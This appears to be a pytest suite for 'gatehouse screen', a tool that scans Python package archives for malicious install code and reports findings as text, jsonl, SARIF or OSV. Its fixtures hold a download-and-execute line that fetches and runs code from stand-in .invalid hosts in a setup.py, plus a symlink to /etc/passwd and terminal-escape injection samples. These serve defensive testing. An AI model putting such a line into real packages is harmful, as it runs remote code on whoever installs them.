"""`gatehouse screen` as a user runs it: three forms, three exit codes, quiet in a pipe."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest

from tests.support.distributions import build_sdist, build_wheel

HOSTILE = 'import urllib.request\nexec(urllib.request.urlopen("http://payload.invalid/x").read())\n'
SETUP = "from setuptools import setup\nsetup()\n"


def screen(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    environment = {name: value for name, value in os.environ.items() if not name.startswith("GATEHOUSE_")}
    command = [sys.executable, "-m", "gatehouse", "screen", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=False, env=environment, timeout=120)


def write(folder: Path, distribution: tuple[str, bytes]) -> Path:
    path = folder / distribution[0]
    path.write_bytes(distribution[1])
    return path


@pytest.fixture
def clean(tmp_path: Path) -> Path:
    return write(tmp_path, build_wheel("clean", "1.0", files={"clean/__init__.py": "ANSWER = 42\n"}))


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    return write(tmp_path, build_sdist("hostile", "1.0", files={"setup.py": HOSTILE + SETUP}))


def test_nothing_found_exits_0_and_says_so(clean: Path) -> None:
    result = screen(clean)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("clean")
    assert result.stderr == ""


def test_something_at_the_queue_exits_1_and_shows_the_lines(clean: Path, hostile: Path) -> None:
    result = screen(clean, hostile)
    assert result.returncode == 1, result.stderr
    assert "hold" in result.stdout
    assert "hostile-1.0/setup.py:2 (install)" in result.stdout
    assert 'exec(urllib.request.urlopen("http://payload.invalid/x").read())' in result.stdout


def test_a_json_line_a_file_with_the_contracts_fields(hostile: Path, clean: Path) -> None:
    result = screen("--format", "jsonl", hostile.parent)
    rows = {Path(row["file"]).name: row for row in map(json.loads, result.stdout.splitlines())}
    assert rows.keys() == {hostile.name, clean.name}
    row = rows[hostile.name]
    names = {"file", "sha256", "outcome", "tier", "score", "findings", "not_examined", "seconds"}
    assert names <= row.keys()
    assert (row["outcome"], row["tier"]) == ("flagged", "hold")
    assert 0.9 <= row["score"] <= 1
    (finding,) = (finding for finding in row["findings"] if finding["check"] == "download-and-execute")
    names = {"check", "version", "message", "member", "line", "context", "chain", "excerpt"}
    assert names <= finding.keys()
    assert (finding["line"], finding["context"]) == (2, "install")
    assert rows[clean.name]["findings"] == []


def test_sarif_has_a_rule_and_a_place_for_each_finding(hostile: Path) -> None:
    result = screen("--format", "sarif", hostile)
    assert result.returncode == 1
    log = json.loads(result.stdout)
    assert log["version"] == "2.1.0"
    (run,) = log["runs"]
    rules = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    assert {found["ruleId"] for found in run["results"]} <= rules
    (found,) = (found for found in run["results"] if found["ruleId"] == "download-and-execute")
    assert found["level"] == "error"
    location = found["locations"][0]["physicalLocation"]
    assert location["artifactLocation"]["uri"].endswith("hostile-1.0.tar.gz")
    assert location["region"]["startLine"] == 2


def test_what_cannot_be_read_is_incomplete_and_exits_2(tmp_path: Path, clean: Path) -> None:
    broken = tmp_path / "broken-1.0-py3-none-any.whl"
    broken.write_bytes(b"not an archive at all")
    result = screen(broken, clean)
    assert result.returncode == 2
    assert "INCOMPLETE, not clean" in result.stdout
    (row, _) = map(json.loads, screen("--format", "jsonl", broken, clean).stdout.splitlines())
    assert row["outcome"] == "incomplete"
    assert row["incomplete_reason"]


@pytest.mark.parametrize("name", ["missing.whl", "notes.txt", "empty"])
def test_misuse_is_one_line_and_exits_2(tmp_path: Path, name: str) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "notes.txt").write_text("notes")
    result = screen(tmp_path / name)
    assert result.returncode == 2
    assert result.stderr.startswith("gatehouse: ")
    assert len(result.stderr.splitlines()) == 1


def test_one_bad_file_among_many_is_incomplete_and_the_others_are_screened(tmp_path: Path, hostile: Path) -> None:
    (tmp_path / "nonsense.whl").write_text("nonsense")
    (tmp_path / "gone-1.0.tar.gz").symlink_to("nowhere")
    os.mkfifo(tmp_path / "pipe-1.0.tar.gz")
    result = screen("--format", "jsonl", tmp_path)
    assert result.returncode == 2
    outcomes = {Path(row["file"]).name: row["outcome"] for row in map(json.loads, result.stdout.splitlines())}
    unread = dict.fromkeys(("nonsense.whl", "gone-1.0.tar.gz", "pipe-1.0.tar.gz"), "incomplete")
    assert outcomes == {hostile.name: "flagged", **unread}
    log = json.loads(screen("--format", "sarif", tmp_path).stdout)
    (run,) = log["runs"]
    assert run["results"]
    told = "".join(each["message"]["text"] for each in run["invocations"][0]["toolExecutionNotifications"])
    assert all(name in told for name in unread)


def test_a_source_folder_is_read_like_an_sdist(tmp_path: Path) -> None:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "setup.py").write_text(HOSTILE + SETUP)
    (folder / "outside").symlink_to("/etc/passwd")
    result = screen(folder)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "root:" not in result.stdout


def test_previous_marks_what_was_there_before(tmp_path: Path, hostile: Path) -> None:
    more = HOSTILE + 'exec(urllib.request.urlopen("http://other.invalid/y").read())\n' + SETUP
    newer = write(tmp_path, build_sdist("hostile", "1.1", files={"setup.py": more}))
    result = screen("--format", "jsonl", "--previous", hostile, newer)
    assert result.returncode == 1
    findings = {finding["excerpt"]: finding["new"] for finding in json.loads(result.stdout)["findings"]}
    assert findings == {
        'exec(urllib.request.urlopen("http://payload.invalid/x").read())': False,
        'exec(urllib.request.urlopen("http://other.invalid/y").read())': True,
    }


def test_previous_says_what_is_new_in_the_release(tmp_path: Path) -> None:
    older = write(tmp_path, build_wheel("tidy", "1.0", files={"tidy/__init__.py": "ANSWER = 42\n"}))
    more = "import urllib.request\nANSWER = 42\n\ndef ask():\n    urllib.request.urlopen('http://new.invalid/x')\n"
    newer = write(tmp_path, build_wheel("tidy", "1.1", files={"tidy/__init__.py": more, "tidy/more.py": ""}))
    (row,) = map(json.loads, screen("--format", "jsonl", "--previous", older, newer).stdout.splitlines())
    assert row["difference"]["previous"] == "1.0"
    assert row["difference"]["members"] == ["tidy/more.py"]
    assert row["difference"]["hosts"] == ["new.invalid"]
    assert {"context": "call", "name": "urllib.request.urlopen"} in row["difference"]["acts"]
    shown = screen("--previous", older, newer).stdout
    assert "new since 1.0:" in shown
    assert "hosts: new.invalid" in shown
    assert "changed: tidy/__init__.py (about " in shown, "code is compared by its lines"
    assert "changed: *.dist-info/METADATA\n" in shown, "of a text it is not known how much changed"
    same = screen("--previous", older, older).stdout
    assert "new since" not in same


def test_osv_has_a_record_of_what_checks_would_hold_as_malicious(clean: Path, hostile: Path) -> None:
    result = screen("--format", "osv", clean, hostile)
    assert result.returncode == 1
    (record,) = map(json.loads, result.stdout.splitlines())
    assert record["affected"][0]["package"]["name"] == "hostile"
    assert record["database_specific"]["reviewed"] is False


@pytest.mark.parametrize("jobs", ["1", "3"])
def test_results_come_in_the_order_of_the_archives_however_many_run_at_once(tmp_path: Path, jobs: str) -> None:
    for number in range(10):
        write(tmp_path, build_wheel(f"many{number}", "1.0", files={f"many{number}/__init__.py": "x = 1\n"}))
    result = screen("--format", "jsonl", "--jobs", jobs, tmp_path)
    assert result.returncode == 0, result.stderr
    names = [Path(json.loads(line)["file"]).name for line in result.stdout.splitlines()]
    assert names == sorted(names)
    assert len(names) == 10


def test_no_text_of_a_package_reaches_the_terminal_as_a_command(tmp_path: Path) -> None:
    setup = HOSTILE.replace("payload", "\x1b[2J\u202epayload") + SETUP
    path = write(tmp_path, build_sdist("escape", "1.0", files={"setup.py": setup}))
    result = screen(path)
    assert result.returncode in (1, 2)
    assert "\x1b" not in result.stdout
    assert "\u202e" not in result.stdout


def test_a_terminal_sees_progress_and_the_pipe_beside_it_only_results(clean: Path, hostile: Path) -> None:
    watching, terminal = pty.openpty()
    environment = {name: value for name, value in os.environ.items() if not name.startswith("GATEHOUSE_")}
    command = [sys.executable, "-m", "gatehouse", "screen", "--format", "jsonl", str(clean), str(hostile)]
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=terminal, env=environment | {"TERM": "xterm"}, text=True
    ) as process:
        os.close(terminal)
        shown = b""
        with suppress(OSError):  # that is how a terminal says that nobody writes any more
            while piece := os.read(watching, 4096):
                shown += piece
        assert process.stdout is not None
        rows = [json.loads(line) for line in process.stdout]
    os.close(watching)
    assert b"screening" in shown
    assert b"100%" in shown
    assert [Path(row["file"]).name for row in rows] == [clean.name, hostile.name]
